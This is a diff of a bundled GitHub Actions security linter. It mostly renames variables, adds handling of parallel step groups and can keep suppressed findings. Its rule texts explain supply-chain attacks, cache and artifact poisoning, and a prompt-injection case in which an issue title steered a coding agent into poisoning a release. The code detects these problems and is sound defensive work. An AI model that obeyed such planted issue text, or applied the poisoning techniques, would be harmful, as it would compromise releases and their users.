@@ -84,8 +84,8 @@ function escapeJsonOutput(json) {
 }
 
 // server/src/cli/run.ts
-var import_node_fs8 = require("node:fs");
-var import_node_path7 = require("node:path");
+var import_node_fs9 = require("node:fs");
+var import_node_path8 = require("node:path");
 
 // shared/src/github-hosts.ts
 var PUBLIC_SERVER_URL = "https://github.com";
@@ -3596,10 +3596,10 @@ function resolveBlockMap({ composeNode: composeNode2, composeEmptyNode: composeE
   let offset = bm.offset;
   let commentEnd = null;
   for (const collItem of bm.items) {
-    const { start, key, sep: sep4, value } = collItem;
+    const { start, key, sep: sep5, value } = collItem;
     const keyProps = resolveProps(start, {
       indicator: "explicit-key-ind",
-      next: key ?? sep4?.[0],
+      next: key ?? sep5?.[0],
       offset,
       onError,
       parentIndent: bm.indent,
@@ -3613,7 +3613,7 @@ function resolveBlockMap({ composeNode: composeNode2, composeEmptyNode: composeE
         else if ("indent" in key && key.indent !== bm.indent)
           onError(offset, "BAD_INDENT", startColMsg);
       }
-      if (!keyProps.anchor && !keyProps.tag && !sep4) {
+      if (!keyProps.anchor && !keyProps.tag && !sep5) {
         commentEnd = keyProps.end;
         if (keyProps.comment) {
           if (map2.comment)
@@ -3637,7 +3637,7 @@ function resolveBlockMap({ composeNode: composeNode2, composeEmptyNode: composeE
     ctx.atKey = false;
     if (mapIncludes(ctx, map2.items, keyNode))
       onError(keyStart2, "DUPLICATE_KEY", "Map keys must be unique");
-    const valueProps = resolveProps(sep4 ?? [], {
+    const valueProps = resolveProps(sep5 ?? [], {
       indicator: "map-value-ind",
       next: value,
       offset: keyNode.range[2],
@@ -3653,7 +3653,7 @@ function resolveBlockMap({ composeNode: composeNode2, composeEmptyNode: composeE
         if (ctx.options.strict && keyProps.start < valueProps.found.offset - 1024)
           onError(keyNode.range, "KEY_OVER_1024_CHARS", "The : indicator must be at most 1024 chars after the start of an implicit block mapping key");
       }
-      const valueNode = value ? composeNode2(ctx, value, valueProps, onError) : composeEmptyNode2(ctx, offset, sep4, null, valueProps, onError);
+      const valueNode = value ? composeNode2(ctx, value, valueProps, onError) : composeEmptyNode2(ctx, offset, sep5, null, valueProps, onError);
       if (ctx.schema.compat)
         flowIndentCheck(bm.indent, value, onError);
       offset = valueNode.range[2];
@@ -3729,7 +3729,7 @@ function resolveEnd(end, offset, reqSpace, onError) {
   let comment = "";
   if (end) {
     let hasSpace = false;
-    let sep4 = "";
+    let sep5 = "";
     for (const token of end) {
       const { source, type } = token;
       switch (type) {
@@ -3743,13 +3743,13 @@ function resolveEnd(end, offset, reqSpace, onError) {
           if (!comment)
             comment = cb;
           else
-            comment += sep4 + cb;
-          sep4 = "";
+            comment += sep5 + cb;
+          sep5 = "";
           break;
         }
         case "newline":
           if (comment)
-            sep4 += source;
+            sep5 += source;
           hasSpace = true;
           break;
         default:
@@ -3778,18 +3778,18 @@ function resolveFlowCollection({ composeNode: composeNode2, composeEmptyNode: co
   let offset = fc.offset + fc.start.source.length;
   for (let i = 0; i < fc.items.length; ++i) {
     const collItem = fc.items[i];
-    const { start, key, sep: sep4, value } = collItem;
+    const { start, key, sep: sep5, value } = collItem;
     const props = resolveProps(start, {
       flow: fcName,
       indicator: "explicit-key-ind",
-      next: key ?? sep4?.[0],
+      next: key ?? sep5?.[0],
       offset,
       onError,
       parentIndent: fc.indent,
       startOnNewline: false
     });
     if (!props.found) {
-      if (!props.anchor && !props.tag && !sep4 && !value) {
+      if (!props.anchor && !props.tag && !sep5 && !value) {
         if (i === 0 && props.comma)
           onError(props.comma, "UNEXPECTED_TOKEN", `Unexpected , in ${fcName}`);
         else if (i < fc.items.length - 1)
@@ -3843,8 +3843,8 @@ function resolveFlowCollection({ composeNode: composeNode2, composeEmptyNode: co
         }
       }
     }
-    if (!isMap2 && !sep4 && !props.found) {
-      const valueNode = value ? composeNode2(ctx, value, props, onError) : composeEmptyNode2(ctx, props.end, sep4, null, props, onError);
+    if (!isMap2 && !sep5 && !props.found) {
+      const valueNode = value ? composeNode2(ctx, value, props, onError) : composeEmptyNode2(ctx, props.end, sep5, null, props, onError);
       coll.items.push(valueNode);
       offset = valueNode.range[2];
       if (isBlock(value))
@@ -3856,7 +3856,7 @@ function resolveFlowCollection({ composeNode: composeNode2, composeEmptyNode: co
       if (isBlock(key))
         onError(keyNode.range, "BLOCK_IN_FLOW", blockMsg);
       ctx.atKey = false;
-      const valueProps = resolveProps(sep4 ?? [], {
+      const valueProps = resolveProps(sep5 ?? [], {
         flow: fcName,
         indicator: "map-value-ind",
         next: value,
@@ -3867,8 +3867,8 @@ function resolveFlowCollection({ composeNode: composeNode2, composeEmptyNode: co
       });
       if (valueProps.found) {
         if (!isMap2 && !props.found && ctx.options.strict) {
-          if (sep4)
-            for (const st of sep4) {
+          if (sep5)
+            for (const st of sep5) {
               if (st === valueProps.found)
                 break;
               if (st.type === "newline") {
@@ -3885,7 +3885,7 @@ function resolveFlowCollection({ composeNode: composeNode2, composeEmptyNode: co
         else
           onError(valueProps.start, "MISSING_CHAR", `Missing , or : between ${fcName} items`);
       }
-      const valueNode = value ? composeNode2(ctx, value, valueProps, onError) : valueProps.found ? composeEmptyNode2(ctx, valueProps.end, sep4, null, valueProps, onError) : null;
+      const valueNode = value ? composeNode2(ctx, value, valueProps, onError) : valueProps.found ? composeEmptyNode2(ctx, valueProps.end, sep5, null, valueProps, onError) : null;
       if (valueNode) {
         if (isBlock(value))
           onError(valueNode.range, "BLOCK_IN_FLOW", blockMsg);
@@ -4045,7 +4045,7 @@ function resolveBlockScalar(ctx, scalar, onError) {
       chompStart = i + 1;
   }
   let value = "";
-  let sep4 = "";
+  let sep5 = "";
   let prevMoreIndented = false;
   for (let i = 0; i < contentStart; ++i)
     value += lines[i][0].slice(trimIndent) + "\n";
@@ -4062,24 +4062,24 @@ function resolveBlockScalar(ctx, scalar, onError) {
       indent = "";
     }
     if (type === Scalar.BLOCK_LITERAL) {
-      value += sep4 + indent.slice(trimIndent) + content;
-      sep4 = "\n";
+      value += sep5 + indent.slice(trimIndent) + content;
+      sep5 = "\n";
     } else if (indent.length > trimIndent || content[0] === "	") {
-      if (sep4 === " ")
-        sep4 = "\n";
-      else if (!prevMoreIndented && sep4 === "\n")
-        sep4 = "\n\n";
-      value += sep4 + indent.slice(trimIndent) + content;
-      sep4 = "\n";
+      if (sep5 === " ")
+        sep5 = "\n";
+      else if (!prevMoreIndented && sep5 === "\n")
+        sep5 = "\n\n";
+      value += sep5 + indent.slice(trimIndent) + content;
+      sep5 = "\n";
       prevMoreIndented = true;
     } else if (content === "") {
-      if (sep4 === "\n")
+      if (sep5 === "\n")
         value += "\n";
       else
-        sep4 = "\n";
+        sep5 = "\n";
     } else {
-      value += sep4 + content;
-      sep4 = " ";
+      value += sep5 + content;
+      sep5 = " ";
       prevMoreIndented = false;
     }
   }
@@ -4254,25 +4254,25 @@ function unfoldLines(source) {
     trimBoth = /^[ \t]+|[ \t]+$/g;
   }
   let res = match[1].replace(trimEnd, "");
-  let sep4 = " ";
+  let sep5 = " ";
   let pos = line.lastIndex;
   while (match = line.exec(source)) {
     const lm = match[1].replace(trimBoth, "");
     if (lm === "") {
-      if (sep4 === "\n")
-        res += sep4;
+      if (sep5 === "\n")
+        res += sep5;
       else
-        sep4 = "\n";
+        sep5 = "\n";
     } else {
-      res += sep4 + lm;
-      sep4 = " ";
+      res += sep5 + lm;
+      sep5 = " ";
     }
     pos = line.lastIndex;
   }
   const last = /[ \t]*(.*)/sy;
   last.lastIndex = pos;
   match = last.exec(source);
-  return res + sep4 + (match?.[1] ?? "");
+  return res + sep5 + (match?.[1] ?? "");
 }
 function doubleQuotedValue(source, onError) {
   let res = "";
@@ -5889,18 +5889,18 @@ var Parser = class {
     if (this.type === "map-value-ind") {
       const prev = getPrevProps(this.peek(2));
       const start = getFirstKeyStartProps(prev);
-      let sep4;
+      let sep5;
       if (scalar.end) {
-        sep4 = scalar.end;
-        sep4.push(this.sourceToken);
+        sep5 = scalar.end;
+        sep5.push(this.sourceToken);
         delete scalar.end;
       } else
-        sep4 = [this.sourceToken];
+        sep5 = [this.sourceToken];
       const map2 = {
         type: "block-map",
         offset: scalar.offset,
         indent: scalar.indent,
-        items: [{ start, key: scalar, sep: sep4 }]
+        items: [{ start, key: scalar, sep: sep5 }]
       };
       this.onKeyLine = true;
       this.stack[this.stack.length - 1] = map2;
@@ -6053,15 +6053,15 @@ var Parser = class {
             } else if (isFlowToken(it.key) && !includesToken(it.sep, "newline")) {
               const start2 = getFirstKeyStartProps(it.start);
               const key = it.key;
-              const sep4 = it.sep;
-              sep4.push(this.sourceToken);
+              const sep5 = it.sep;
+              sep5.push(this.sourceToken);
               delete it.key;
               delete it.sep;
               this.stack.push({
                 type: "block-map",
                 offset: this.offset,
                 indent: this.indent,
-                items: [{ start: start2, key, sep: sep4 }]
+                items: [{ start: start2, key, sep: sep5 }]
               });
             } else if (start.length > 0) {
               it.sep = it.sep.concat(start, this.sourceToken);
@@ -6255,13 +6255,13 @@ var Parser = class {
         const prev = getPrevProps(parent);
         const start = getFirstKeyStartProps(prev);
         fixFlowSeqItems(fc);
-        const sep4 = fc.end.splice(1, fc.end.length);
-        sep4.push(this.sourceToken);
+        const sep5 = fc.end.splice(1, fc.end.length);
+        sep5.push(this.sourceToken);
         const map2 = {
           type: "block-map",
           offset: fc.offset,
           indent: fc.indent,
-          items: [{ start, key: fc, sep: sep4 }]
+          items: [{ start, key: fc, sep: sep5 }]
         };
         this.onKeyLine = true;
         this.stack[this.stack.length - 1] = map2;
@@ -6741,7 +6741,12 @@ function optionsWithConfig(base2, config, relativePath, overrides = {}) {
       const line = finding.range.start.line + 1;
       const endLine = finding.range.end.line + 1;
       const column = finding.range.start.character + 1;
-      if (locations.some((location) => ignoreMatches(location, relativePath, line, endLine, column))) return null;
+      const matched = locations.find((location) => ignoreMatches(location, relativePath, line, endLine, column));
+      if (matched) {
+        if (!base2.keepSuppressed) return null;
+        const entry = `${matched.file}${matched.line !== void 0 ? `:${matched.line}` : ""}${matched.column !== void 0 ? `:${matched.column}` : ""}`;
+        Object.assign(finding, { suppression: { kind: "external", justification: `configuration: rules.${finding.ruleId}.ignore: ${entry}` } });
+      }
     }
     const severity = severities.get(finding.ruleId);
     if (severity && severity !== finding.severity) finding.severity = severity;
@@ -6787,6 +6792,13 @@ var OUTSIDE_ROOT = "symbolic link to outside the scanned folder";
 function isInside(root, path) {
   if (path === root) return true;
   return path.startsWith(root.endsWith(import_node_path.sep) ? root : root + import_node_path.sep);
+}
+function realPathOrNull(path) {
+  try {
+    return (0, import_node_fs.realpathSync)(path);
+  } catch {
+    return null;
+  }
 }
 var RefusedError = class extends Error {
   constructor(message) {
@@ -7069,13 +7081,18 @@ var MapView = class _MapView {
   }
 };
 var StepView = class extends MapView {
-  constructor(map2, doc, index, node) {
+  constructor(map2, doc, index, node, listIndex = index, parallel = null) {
     super(map2, doc);
     this.index = index;
     this.node = node;
+    this.listIndex = listIndex;
+    this.parallel = parallel;
+    this.parallelSteps = NO_STEPS;
   }
   index;
   node;
+  listIndex;
+  parallel;
   get uses() {
     return this.get("uses");
   }
@@ -7100,6 +7117,10 @@ var StepView = class extends MapView {
   get id() {
     return this.string("id");
   }
+  /** Where a person finds the step: `3` for the third item of `steps:`, `3.2` for the second step of the group there. */
+  get position() {
+    return this.parallel ? `${this.parallel.listIndex + 1}.${this.listIndex + 1}` : `${this.listIndex + 1}`;
+  }
   /** `name`, `id`, the action or the first line of the script: how a person refers to this step. */
   get label() {
     const name = this.name?.value ?? this.id?.value;
@@ -7111,25 +7132,73 @@ var StepView = class extends MapView {
       const first = run2.trim().split("\n")[0] ?? "";
       return first.length > 40 ? `${first.slice(0, 40)}…` : first;
     }
-    return `step ${this.index + 1}`;
+    if (this.parallelSteps.length > 0) return `parallel group at step ${this.position}`;
+    return `step ${this.position}`;
   }
   get nodeSpan() {
     return nodeSpan(this.node);
   }
 };
+var NO_STEPS = Object.freeze([]);
 function stepsOf(view) {
   const seq2 = asSeq(view.get("steps")?.value ?? null);
-  return seqItems(seq2, view.doc).map((node, index) => new StepView(asMap(node), view.doc, index, node));
+  const steps = [];
+  const items = [];
+  if (!seq2) return { steps, items };
+  const doc = view.doc;
+  for (let i = 0; i < seq2.items.length; i++) {
+    const node = resolveAlias(seq2.items[i], doc);
+    if (!node) continue;
+    const step = new StepView(asMap(node), doc, steps.length, node, i);
+    steps.push(step);
+    items[i] = step;
+    const group = asSeq(step.get("parallel")?.value ?? null);
+    if (!group) continue;
+    const members = [];
+    for (let j = 0; j < group.items.length; j++) {
+      const member = resolveAlias(group.items[j], doc);
+      if (!member) continue;
+      const nested = new StepView(asMap(member), doc, steps.length, member, j, step);
+      steps.push(nested);
+      members.push(nested);
+    }
+    step.parallelSteps = members;
+  }
+  return { steps, items };
+}
+function stepAtPath(items, path, at) {
+  const position = path[at];
+  if (typeof position !== "number") return null;
+  const step = items[position];
+  if (!step) return null;
+  const inner = path[at + 2];
+  if (path[at + 1] === "parallel" && typeof inner === "number" && step.parallelSteps.length > 0) {
+    const member = step.parallelSteps.find((candidate) => candidate.listIndex === inner);
+    return member ? { step: member, keysAt: at + 3 } : null;
+  }
+  return { step, keysAt: at + 1 };
+}
+function stepKeysStart(path, kind) {
+  const at = kind === "workflow" ? path[0] === "jobs" && path[2] === "steps" ? 3 : -1 : path[0] === "runs" && path[1] === "steps" ? 2 : -1;
+  if (at === -1 || typeof path[at] !== "number") return -1;
+  return path[at + 1] === "parallel" && typeof path[at + 2] === "number" ? at + 3 : at + 1;
 }
 var JobView = class extends MapView {
   constructor(entry, doc) {
     super(asMap(entry.value), doc);
     this.entry = entry;
-    this.steps = stepsOf(this);
+    const lists = stepsOf(this);
+    this.steps = lists.steps;
+    this.stepItems = lists.items;
     this.attachments = {};
   }
   entry;
+  /** Every step, flattened in document order (the steps of a `parallel:` group follow their group's step). */
   steps;
+  /** The step a key path `jobs.<id>.steps.<n>[.parallel.<m>]...` leads into, and where its keys start in the path. */
+  stepAt(path) {
+    return path[2] === "steps" ? stepAtPath(this.stepItems, path, 3) : null;
+  }
   get id() {
     return this.entry.key;
   }
@@ -7230,11 +7299,18 @@ var WorkflowView = class extends MapView {
 };
 var ActionView = class extends MapView {
   runs;
+  /** Every step of a composite action, flattened as a job's are. */
   steps;
   constructor(map2, doc) {
     super(map2, doc);
     this.runs = this.child("runs");
-    this.steps = stepsOf(this.runs);
+    const lists = stepsOf(this.runs);
+    this.steps = lists.steps;
+    this.stepItems = lists.items;
+  }
+  /** The step a key path `runs.steps.<n>[.parallel.<m>]...` leads into, and where its keys start in the path. */
+  stepAt(path) {
+    return path[0] === "runs" && path[1] === "steps" ? stepAtPath(this.stepItems, path, 2) : null;
   }
   /** `composite`, `docker`, `node20`, ... */
   get using() {
@@ -8575,6 +8651,9 @@ function builtIn(id) {
   if (!rule) throw new Error(`${id} is not a built-in rule`);
   return rule;
 }
+function isSuppressed(finding) {
+  return finding.suppression !== void 0;
+}
 
 // server/src/resolve/types.ts
 var ok = (value) => ({ ok: true, value });
@@ -9531,7 +9610,7 @@ var adhocPackages = {
     why: "An unpinned install is the moment a compromised release reaches you. In LiteLLM (2026, PYSEC-2026-2) the job holding the PyPI credential ran an unpinned `apt-get install trivy` hours after Trivy's release channel was taken over (CVE-2026-33634); the scanner stole the credential and malicious LiteLLM versions followed. Shai-Hulud (2025) spread through `npm install` of freshly published worm versions.",
     fix: "Pin every package (`pip install ruff==0.6.9`, `npm install -g pnpm@9.12.0`, `go install golang.org/x/tools/cmd/goimports@v0.26.0`, `gem install bundler -v 2.5.22`, `apt-get install jq=1.7.1-3`), better with hashes (`pip install --require-hashes -r requirements.txt`), or use a lock file (`npm ci`, `uv sync --locked`). Keep such installs out of jobs that hold publish credentials."
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     for (const run2 of runScripts(file)) {
       let credentials;
       for (const command of run2.script.commands) {
@@ -9540,7 +9619,7 @@ var adhocPackages = {
         if (credentials === void 0) credentials = publishCredentials(file, run2.job);
         const names = install.packages.map((word) => `\`${word.text}\``);
         const span = run2.sourceSpan({ start: install.packages[0].span.start, end: install.packages[install.packages.length - 1].span.end });
-        report({
+        report2({
           span,
           message: `\`${install.manager}\` installs ${names.slice(0, 4).join(", ")}${names.length > 4 ? "…" : ""} without a version${credentials ? `, in a job holding publish credentials (${credentials})` : ""}: every run takes whatever the registry serves`,
           severity: credentials ? "medium" : "low",
@@ -10574,11 +10653,10 @@ function scopeOf(file, path) {
   const triggers = scopeTriggers(file);
   if (file.workflow && path[0] === "jobs" && typeof path[1] === "string") {
     const job = file.workflow.job(path[1]) ?? null;
-    const step = job && path[2] === "steps" && typeof path[3] === "number" ? job.steps[path[3]] ?? null : null;
-    return { file, job, step, triggers };
+    return { file, job, step: job?.stepAt(path)?.step ?? null, triggers };
   }
-  if (file.action && path[0] === "runs" && path[1] === "steps" && typeof path[2] === "number") {
-    return { file, job: null, step: file.action.steps[path[2]] ?? null, triggers };
+  if (file.action && path[0] === "runs" && path[1] === "steps") {
+    return { file, job: null, step: file.action.stepAt(path)?.step ?? null, triggers };
   }
   return { file, job: null, step: null, triggers };
 }
@@ -10813,7 +10891,7 @@ var aiAgentInjection = {
     why: "A model cannot tell the workflow author's instructions from instructions hidden in the text it is given. In Cline (2026), an `issues` workflow passed the issue title to `claude-code-action`, open to non-writers and allowed to run `Bash`; an issue title told the agent to run commands, which poisoned a cache used by the nightly publish and shipped a malicious `cline` release.",
     fix: "Do not put outsider text in the prompt: have the agent read it through a read-only tool, keep the agent to read-only tools (no `Bash`, no `danger-full-access`), keep the default write-access check (no `allowed_non_write_users: '*'`), and give the job `permissions:` no wider than the agent needs, with no secrets other than the model key."
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     const reportedSteps = /* @__PURE__ */ new Set();
     const factsCache = /* @__PURE__ */ new Map();
     const factsOf = (step, job) => {
@@ -10830,10 +10908,11 @@ var aiAgentInjection = {
       factsCache.set(step, facts);
       return facts;
     };
-    const base2 = file.workflow ? 4 : 3;
+    const kind = file.workflow ? "workflow" : "action";
     for (const site of file.expressions) {
       const path = site.path;
-      if (path.length !== base2 + 2 || path[base2] !== "with" || typeof path[base2 + 1] !== "string") continue;
+      const base2 = stepKeysStart(path, kind);
+      if (base2 === -1 || path.length !== base2 + 2 || path[base2] !== "with" || typeof path[base2 + 1] !== "string") continue;
       if (!site.occurrence.terminated || !site.occurrence.parsed.ast) continue;
       const scope = scopeOf(file, path);
       const step = scope.step;
@@ -10854,7 +10933,7 @@ var aiAgentInjection = {
       const outsider = verdict2.severity === "high";
       const severity = outsider ? severityFor(facts) : "low";
       const confidence = !outsider ? "low" : knownTriggers ? verdict2.confidence : lower(verdict2.confidence);
-      report({
+      report2({
         span: { start: leaf.start, end: leaf.end },
         message: `\`${leaf.path}\` is written into \`${input2}\` of ${facts.repository}, the agent's instructions: ${verdict2.reason}. Whoever writes it can steer the agent (${aggravation(facts)})`,
         severity,
@@ -10877,7 +10956,7 @@ var aiAgentInjection = {
         const tagMode = facts.agent.tagMode;
         const triggerText = outsiderTriggers.map((t) => `\`${t}\``).join(", ");
         if (prompts.length === 0 && !promptFile && facts.open && tagMode && facts.openSpan) {
-          report({
+          report2({
             span: facts.openSpan,
             message: `${facts.repository} takes its instructions from the triggering comment, issue or pull request, and ${facts.openWhy} (${triggerText}): anyone can instruct the agent (${facts.tools !== "none" ? facts.toolsWhy : "no tools"})`,
             severity: facts.tools === "none" ? "low" : "high",
@@ -10889,7 +10968,7 @@ var aiAgentInjection = {
         if (facts.tools === "none") continue;
         const reading = prompts.find((value) => READS_EVENT_TEXT.test(value.text)) ?? promptFile ?? (facts.open ? prompts[0] : void 0);
         if (!reading) continue;
-        report({
+        report2({
           span: usesSpan,
           message: `${facts.repository} runs under ${triggerText} with ${reading === promptFile ? "a prompt file assembled by the job" : "a prompt about the event"}: text an outsider writes in ${OUTSIDER_TRIGGERS_NOTE} may reach the model (${aggravation(facts)}); check that the agent's tools and token cannot do harm`,
           severity: "medium",
@@ -10916,16 +10995,16 @@ var anonymousDefinition = {
     why: "Reviewing run history after an incident (which workflow ran, which job used a secret) is slower when names are paths and ids; required status checks bound to unnamed jobs break silently when ids change.",
     fix: "Add `name:` at the top of the workflow and to each job."
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     const workflow = file.workflow;
     if (!workflow || !workflow.map) return;
     if (!workflow.has("name")) {
       const first = workflow.entries[0];
-      if (first) report({ span: first.keySpan, message: "This workflow has no `name:`; the Actions UI will show its file path" });
+      if (first) report2({ span: first.keySpan, message: "This workflow has no `name:`; the Actions UI will show its file path" });
     }
     for (const job of workflow.jobs) {
       if (!job.map || job.has("name")) continue;
-      report({ span: job.idSpan, message: `Job \`${job.id}\` has no \`name:\`; it will be shown by its id`, severity: "informational" });
+      report2({ span: job.idSpan, message: `Job \`${job.id}\` has no \`name:\`; it will be shown by its id`, severity: "informational" });
     }
   }
 };
@@ -10999,7 +11078,7 @@ var archivedUses = {
     why: "An archived repository gets no security fixes: when a vulnerability is found in it, or in the runtime or dependencies it bundles, nobody will release a patched version. `actions/create-release` and the `actions-rs/*` actions are still copied into new workflows years after they were abandoned.",
     fix: "Replace the action with its maintained successor (the message names one when there is an obvious one) or with a plain command (`gh release create`, `cargo`, `aws s3 sync`)."
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     for (const site of file.uses) {
       const reference = site.reference;
       if (reference.kind !== "remote") continue;
@@ -11007,7 +11086,7 @@ var archivedUses = {
       if (!archived) continue;
       const end = reference.ref === null ? site.value.length : reference.refStart - 1;
       const span = site.exact ? { start: site.valueStart, end: site.valueStart + end } : site.entry.valueSpan;
-      report({
+      report2({
         span,
         message: `\`${usesTarget(reference)}\` comes from an archived repository that receives no fixes${archived.replacement ? `; use ${archived.replacement} instead` : ""}`
       });
@@ -11032,7 +11111,7 @@ var artifactPoisoning = {
     why: 'Artifacts uploaded by a `pull_request` run contain whatever the pull request wanted. A `workflow_run` job that downloads them into its workspace lets them overwrite scripts, configuration or `node_modules` of the trusted checkout, and then runs them with the repository\'s secrets. GitHub Security Lab documented the pattern ("Keeping your GitHub Actions and workflows secure Part 1", 2021), and CodeQL ships `actions/artifact-poisoning` queries for it.',
     fix: "Download into a fresh directory outside the workspace (`path: ${{ runner.temp }}/artifacts`), treat every file as untrusted data (validate a PR number with a regular expression, never `source` or execute it), and never extract archives over the checkout."
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     const workflow = file.workflow;
     if (!workflow) return;
     const triggers = privilegedTriggers(workflow, TRIGGERS2);
@@ -11062,7 +11141,7 @@ var artifactPoisoning = {
       for (const download of downloads) {
         const use = laterUse(scripts, download);
         if (download.path !== null && !use) continue;
-        report({
+        report2({
           span: download.span,
           message: download.path === null ? `${download.what} in \`${triggers[0]}\` job \`${job.id}\` extracts the triggering run's artifacts into the workspace root, over the trusted checkout; a fork pull request controls their content` : `${download.what} in \`${triggers[0]}\` job \`${job.id}\` fetches the triggering run's artifacts and ${use.what} them; a fork pull request controls their content`,
           confidence: "medium",
@@ -11255,7 +11334,7 @@ var artipacked = {
     why: 'In "ArtiPACKED" (Palo Alto Unit 42, 2024) public repositories of Google, Microsoft, AWS, Red Hat and others uploaded their whole workspace as an artifact: `.git/config` inside it held the `GITHUB_TOKEN` (and sometimes a PAT) that `actions/checkout` had persisted, and anyone could download the artifact and race the job to use the token. Astral sets `persist-credentials: false` on every checkout (uv: 132 of 132).',
     fix: "Add `persist-credentials: false` under the checkout's `with:`. A later step that really needs to push can pass the token explicitly (e.g. `git push https://x-access-token:${GH_TOKEN}@github.com/...` with `GH_TOKEN` in that step's `env:`)."
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     let gitSteps;
     const gitRemote = () => gitSteps ??= gitRemoteSteps(file);
     const laterOf = /* @__PURE__ */ new Map();
@@ -11273,7 +11352,7 @@ var artipacked = {
       const related2 = upload ? [{ span: upload.uses.valueSpan, message: "uploads the workspace, .git/config included" }] : [];
       if (value !== null && value.trim().toLowerCase() === "false") continue;
       if (value !== null && value.trim().toLowerCase() === "true") {
-        report({
+        report2({
           span: persist.valueSpan,
           message: `\`persist-credentials: true\` keeps the token in the checkout for every later step${upload ? ", and a later step uploads the workspace" : ""}`,
           severity: upload ? "high" : "low",
@@ -11284,14 +11363,14 @@ var artipacked = {
         continue;
       }
       if (value !== null) {
-        report({ span: persist.valueSpan, message: "`persist-credentials` is computed; when it is true the token stays in .git/config", severity: "low", confidence: "low", persona: "pedantic", related: related2 });
+        report2({ span: persist.valueSpan, message: "`persist-credentials` is computed; when it is true the token stays in .git/config", severity: "low", confidence: "low", persona: "pedantic", related: related2 });
         continue;
       }
       let severity = upload ? "high" : "medium";
       if (modern) severity = LOWER[severity];
       const pushes = !upload && later.pushAfter(step.index);
       const where = modern ? "a credentials file the git config points to" : "`.git/config`";
-      report({
+      report2({
         span,
         message: upload ? `\`${action.site.value}\` persists the token in ${where} and a later step uploads the workspace: anyone who can download the artifact gets the token` : pushes ? `\`${action.site.value}\` persists the token in ${where}; a later step pushes with it. Prefer \`persist-credentials: false\` and pass the token to that step only` : `\`${action.site.value}\` persists the token in ${where}, readable by every later step; add \`persist-credentials: false\``,
         severity: pushes ? "low" : severity,
@@ -11331,10 +11410,10 @@ function evaluatedExpressions(file) {
 }
 var evaluatedCache = new AttachedCache("evaluated-expressions", attachmentsOf);
 var Evaluated = class {
-  constructor(span, text, relative3, shift, exact, isCondition, fence) {
+  constructor(span, text, relative4, shift, exact, isCondition, fence) {
     this.span = span;
     this.text = text;
-    this.relative = relative3;
+    this.relative = relative4;
     this.shift = shift;
     this.exact = exact;
     this.isCondition = isCondition;
@@ -11473,7 +11552,7 @@ var botConditions = {
     why: "`github.actor` is whoever caused the latest event, not who wrote the pull request. On `pull_request_target` an attacker can open a pull request and get Dependabot to act on it (for example by having it update a branch of their fork), so the latest event's actor is `dependabot[bot]` and the step meant for Dependabot's own pull requests (auto-merge, secrets, a write token) runs for the attacker's code.",
     fix: "Check who opened the pull request instead: `github.event.pull_request.user.login == 'dependabot[bot]'` (the quick fix does this when the workflow has a single pull request or issue trigger), and for Dependabot use `dependabot/fetch-metadata`."
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     if (!file.workflow) return;
     const triggers = scopeTriggers(file);
     const outsider = triggers ? triggers.filter((trigger) => triggerInfo(trigger)?.outsiderCanFire) : [];
@@ -11520,7 +11599,7 @@ var botConditions = {
         }
         const severity = triggers === null ? "medium" : outsider.length > 0 ? "high" : "low";
         const why = outsider.length > 0 ? `on ${outsider.map((t) => `\`${t}\``).join(", ")} an attacker can make a bot the actor of an event on their own ${outsider.some((t) => t.startsWith("pull_request") || t === "workflow_run") ? "pull request" : "issue or pull request"}` : triggers === null ? "the caller's event decides who the actor is" : "the actor is whoever caused the latest event, not who wrote the code";
-        report({
+        report2({
           span: { start: match.node.start, end: match.node.end },
           message: `\`${actorText}\` is checked against \`${match.bot}\`: ${why}, so this condition ${dominating ? "passes" : "can pass"} for their code${single ? `; compare \`${match.actor.kind === "login" ? single.login : single.id}\` instead` : ""}`,
           severity,
@@ -11794,7 +11873,7 @@ var cachePoisoning = {
     why: "Caches are shared across a repository's runs: whoever can write an entry that the release job restores controls what gets built. In Ultralytics (2024) a poisoned cache went into the PyPI releases 8.3.41/42; in TanStack (2026, CVE-2026-45321) a `pull_request_target` build wrote the cache the release job restored, and 84 npm versions shipped with valid provenance. Cline (2026) was poisoned the same way through its nightly publish.",
     fix: "Turn caching off in release and publish jobs (`enable-cache: false` for setup-uv, `cache: false` for setup-go, no `cache:` / `package-manager-cache: false` for setup-node, `ACTIONS_CACHE_MODE: none` in the job's `env:` for actions built on `@actions/cache` ≥ 6.2.0), and never build pull request code in a `pull_request_target` job."
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     const workflow = file.workflow;
     if (!workflow) return;
     const privileged = privilegedTriggers(workflow);
@@ -11822,7 +11901,7 @@ var cachePoisoning = {
         const fixes = offFix(file, step, known, value, enabled);
         const related2 = signals.slice(0, 3).map((signal) => ({ span: signal.span, message: `publishes: ${signal.what}` }));
         if (untrusted.length > 0 && known.mode !== "restore") {
-          report({
+          report2({
             span,
             message: `\`${action.name}\` writes the cache of the base branch from a \`${privileged[0]}\` job that builds pull request code: the next job restoring that cache (a release, too) runs what the pull request put in it`,
             severity: "high",
@@ -11834,7 +11913,7 @@ var cachePoisoning = {
         }
         if (signals.length === 0 || known.mode === "save") continue;
         const how = enabled === true ? "restores a cache" : enabled === "conditional" ? "may restore a cache (on by default when a lock file is found)" : "may restore a cache (caching is set by an expression)";
-        report({
+        report2({
           span,
           message: `\`${action.name}\` ${how} in job \`${job.id}\`, which publishes (${signals.map((signal) => signal.what).slice(0, 2).join(", ")}): a poisoned cache entry ends up in the release`,
           confidence: strong && enabled === true ? "medium" : "low",
@@ -11876,7 +11955,7 @@ var concurrencyLimits = {
     why: "Without a limit every push starts another full run: runner minutes, and for self-hosted runners a queue an attacker can flood by pushing to a pull request. A `concurrency` group also stops two deployments from racing.",
     fix: "Add at the top: `concurrency: { group: ${{ github.workflow }}-${{ github.ref }}, cancel-in-progress: true }` (or `cancel-in-progress: false` for deployments you want queued, which states the choice)."
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     const workflow = file.workflow;
     if (!workflow || workflow.jobs.length === 0) return;
     if (!workflow.triggers.some((trigger) => SUPERSEDING.has(trigger.name))) return;
@@ -11884,7 +11963,7 @@ var concurrencyLimits = {
     if (declaresCancel(top, workflow.doc)) return;
     if (workflow.jobs.every((job) => declaresCancel(job.get("concurrency"), job.doc))) return;
